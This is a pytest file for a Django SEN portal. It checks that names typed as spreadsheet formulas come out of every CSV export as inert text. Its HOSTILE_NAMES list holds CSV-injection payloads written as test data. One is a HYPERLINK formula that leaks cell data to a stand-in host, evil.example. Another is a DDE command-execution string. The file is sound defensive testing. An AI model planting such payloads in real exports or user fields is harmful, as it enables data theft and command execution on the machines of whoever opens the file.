"""Attack round, finding 6: a name typed as a formula reaches no CSV as a live formula.
Every CSV the app writes goes through sen_portal.csv_safe."""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from sen_portal.csv_safe import FORMULA_TRIGGERS, neutralise

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
CENSUS = "2026-01-15"
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def live_formulas(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    ]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_a_formula_becomes_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Sam", "-3", "+1.5", "2026-01-15", 7, None, "O'Neill"])
def test_ordinary_values_are_unchanged(value):
    assert neutralise(value) == value


@pytest.fixture
def hostile_children(team, make_case):
    for i, name in enumerate(HOSTILE_NAMES):
        make_case(
            team,
            received_on=datetime.date(2025, 3, 3),
            plan_on=datetime.date(2025, 7, 14),
            first_name=name,
            last_name=name,
            la_reference=f"NS-9{i:03d}",
        )


def test_the_sen2_downloads_carry_no_live_formula(client, manager, hostile_children):
    client.force_login(manager)
    for module in ("person", "requests"):
        response = client.get(
            reverse("dashboards:sen2_module_csv", args=[module]), {"census_date": CENSUS}
        )
        text = b"".join(response.streaming_content).decode()
        assert not live_formulas(text), module
    person = client.get(
        reverse("dashboards:sen2_module_csv", args=["person"]), {"census_date": CENSUS}
    )
    assert "'=HYPERLINK" in b"".join(person.streaming_content).decode()


def test_the_sen2_export_command_writes_no_live_formula(tmp_path, hostile_children):
    call_command("sen2_export", census_date=CENSUS, output=str(tmp_path / "csv"),
                 format="csv", stdout=io.StringIO(), stderr=io.StringIO())  # fmt: skip
    files = list((tmp_path / "csv").glob("*.csv"))
    assert files
    for path in files:
        assert not live_formulas(path.read_text(encoding="utf-8")), path.name


def test_the_caseload_csv_carries_no_live_formula(client, manager, hostile_children):
    client.force_login(manager)
    response = client.get(reverse("dashboards:caseloads"), {"format": "csv"})
    assert response.status_code == 200
    assert not live_formulas(b"".join(response.streaming_content).decode())


def test_no_module_writes_csv_except_through_csv_safe():
    """Every CSV the app writes is neutralised: a new csv.writer elsewhere fails here."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {"tests", "node_modules", ".venv", "bench"}:
            continue
        if relative.as_posix() == "sen_portal/csv_safe.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(relative.as_posix())
    assert offenders == []
